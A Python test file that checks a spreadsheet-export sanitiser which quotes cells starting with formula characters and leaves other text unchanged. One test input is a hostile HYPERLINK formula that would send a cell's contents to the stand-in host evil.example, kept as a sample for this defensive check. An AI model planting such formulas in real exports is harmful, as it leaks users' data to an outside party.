"""The formula neutraliser: what a spreadsheet would run is shown as text, the rest as typed."""

from __future__ import annotations

import pytest

from siaga.exports.safety import FORMULA_STARTS, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "+62 812 3456",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_formula_starts_are_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Rapat koordinasi = 3 kali",
        "Kabupaten Paser",
        " =1+1",
        "'=already quoted",
        "100%",
        "\n=1",
    ],
)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_every_start_is_covered() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} == FORMULA_STARTS
    for start in FORMULA_STARTS:
        assert neutralise(start + "x").startswith("'")
